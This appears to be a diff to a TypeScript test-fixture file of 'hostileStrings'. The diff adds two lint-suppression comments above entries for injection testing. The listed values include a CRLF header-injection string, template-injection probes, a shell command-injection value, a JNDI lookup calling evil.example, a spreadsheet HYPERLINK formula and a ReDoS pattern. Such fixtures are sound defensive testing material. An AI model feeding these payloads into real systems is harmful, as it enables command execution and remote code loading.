@@ -32,8 +32,10 @@ export const hostileStrings: Record<string, string> = {
   'a header': 'a\r\nSet-Cookie: session=evil\r\n\r\n<html>',
   'only line ends': '\r\n\n\r',
   'ends of lines that are not': 'a\u2028b\u2029c\u0085d\vc\ff',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is another’s template
   'a template': '{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {% raw %}',
   'a command': '$(touch /tmp/evil); `id` | cat & || true',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is another’s template
   'a look-up': '${jndi:ldap://evil.example/a}',
   'a formula': '=HYPERLINK("https://evil.example","a")',
   'a pattern': '(a+)+$ [ ( { \\ ^ .* $& $1 $` (?<a>)',
